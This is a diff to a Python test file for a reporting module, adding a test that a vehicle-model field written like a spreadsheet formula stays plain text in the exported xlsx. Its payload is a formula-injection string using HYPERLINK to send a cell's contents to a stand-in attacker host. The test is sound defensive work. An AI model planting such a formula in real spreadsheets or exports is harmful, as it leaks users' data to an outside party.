@@ -102,3 +102,15 @@ def test_chart_numbers_and_horizontal_bars() -> None:
     assert options["yAxis"]["inverse"] is True
     assert options["xAxis"]["name"] == "km"
     assert options["series"][0]["data"] == [1.0, 2.0]
+
+
+def test_report_workbook_writes_user_text_as_text() -> None:
+    """A vehicle model written like a formula stays text in the report's xlsx."""
+    payload = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
+    table = Table("plan", PLAN, ({**STEP, "model": payload},))
+    book = load_workbook(io.BytesIO(workbook([table], "en")), data_only=True)
+    sheet = book.worksheets[0]
+    head = [c.value for c in sheet[1]]
+    column = head.index(translate("en", "rep.col.plan.model")) + 1
+    cell = sheet.cell(row=2, column=column)
+    assert (cell.value, cell.data_type) == (payload, "s")
